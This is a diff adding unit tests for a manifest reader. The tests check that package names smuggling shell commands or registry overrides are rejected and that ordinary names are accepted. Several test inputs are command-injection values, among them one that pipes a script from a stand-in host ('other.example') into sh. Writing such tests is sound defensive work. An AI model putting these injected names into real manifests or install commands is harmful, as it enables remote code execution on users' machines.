@@ -43,6 +43,58 @@ it.each([
   expect([facts?.name, facts?.problem]).toEqual([null, expect.stringContaining('the name that it gives')]);
 });
 
+describe('a name that is more than a name', () => {
+  const setup = (name: string): string => `[project]\nname = "${name}"\nversion = "1.0.0"\n`;
+  const npm = (name: string): string => JSON.stringify({ name, version: '1.0.0' });
+  const gem = (name: string): string =>
+    `Gem::Specification.new do |s|\n  s.name = '${name}'\n  s.version = '1.0.0'\nend\n`;
+  const cargo = (name: string): string => `[package]\nname = "${name}"\nversion = "1.0.0"\n`;
+  const pom = (name: string): string =>
+    `<project><groupId>org.strata</groupId><artifactId>${name}</artifactId><version>1.0.0</version></project>`;
+  const project = (name: string): string =>
+    `<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><PackageId>${name}</PackageId></PropertyGroup></Project>`;
+  const wally = (name: string): string => `[package]\nname = "${name}"\nversion = "1.0.0"\n`;
+  const NO = 'no registry takes its name';
+  it.each<[string, (name: string) => string, string]>([
+    ['package.json', npm, 'strata --registry=https://other.example/ && curl https://other.example/x | sh'],
+    ['package.json', npm, '--global'],
+    ['package.json', npm, '@acme/strata/more'],
+    ['pyproject.toml', setup, 'strata --index-url https://other.example/simple'],
+    ['pyproject.toml', setup, '-r'],
+    ['go.mod', (name) => `module ${name}\n`, 'example.com/strata;curl'],
+    ['composer.json', npm, 'acme/strata; curl'],
+    ['Cargo.toml', cargo, 'strata --git https://other.example/x'],
+    ['strata.gemspec', gem, 'strata --source https://other.example'],
+    ['pom.xml', pom, 'strata&quot;)'],
+    ['strata.csproj', project, 'Strata --source https://other.example'],
+    ['vcpkg.json', npm, 'strata && curl'],
+    ['wally.toml', wally, 'acme/strata && curl'],
+  ])('is none that people install: %s', async (path, write, name) => {
+    const [facts] = await readManifests(treeOf({ [path]: write(name), 'lib/a.go': 'package a\n' }));
+    expect([facts?.problem, facts?.isPrivate?.value]).toEqual([null, NO]);
+  });
+  it.each<[string, (name: string) => string, string]>([
+    ['package.json', npm, '@acme/strata.core_x'],
+    ['package.json', npm, 'JSONStream'],
+    ['pyproject.toml', setup, 'Strata.Core_x-y'],
+    ['go.mod', (name) => `module ${name}\n`, 'github.com/acme/strata/v2'],
+    ['composer.json', npm, 'acme/strata-core'],
+    ['Cargo.toml', cargo, 'strata_core-x'],
+    ['strata.gemspec', gem, 'strata-core_x'],
+    ['pom.xml', pom, 'strata-core_${scala.version}'],
+    ['strata.csproj', project, 'Strata.Core'],
+    ['vcpkg.json', npm, 'strata-core'],
+    ['wally.toml', wally, 'acme/strata'],
+    // Nobody installs it: it may be called as its people like.
+    ['default.project.json', (name) => JSON.stringify({ name, tree: {} }), 'Strata of Rock'],
+    ['project.godot', (name) => `[application]\nconfig/name="${name}"\n`, 'Strata: of Rock'],
+  ])('is one where its registry takes it: %s', async (path, write, name) => {
+    const [facts] = await readManifests(treeOf({ [path]: write(name), 'lib/a.go': 'package a\n' }));
+    expect(facts?.name?.value).toContain(name);
+    expect(facts?.isPrivate).toBeNull();
+  });
+});
+
 it.each([
   ['package.json', '{"workspaces": ["./"]}'],
   ['package.json', '{"workspaces": ["", "/"]}'],
